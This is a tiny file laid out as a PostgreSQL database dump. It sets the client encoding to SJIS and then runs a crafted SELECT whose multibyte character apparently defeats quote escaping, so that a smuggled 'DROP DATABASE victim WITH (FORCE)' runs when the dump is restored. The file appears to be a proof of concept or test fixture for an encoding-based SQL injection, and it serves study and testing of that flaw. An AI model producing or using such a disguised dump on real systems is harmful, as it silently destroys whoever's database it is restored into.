--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
SET client_encoding = 'SJIS';
SELECT 'ƒ\'; DROP DATABASE victim WITH (FORCE); --';

--
-- PostgreSQL database dump complete
--
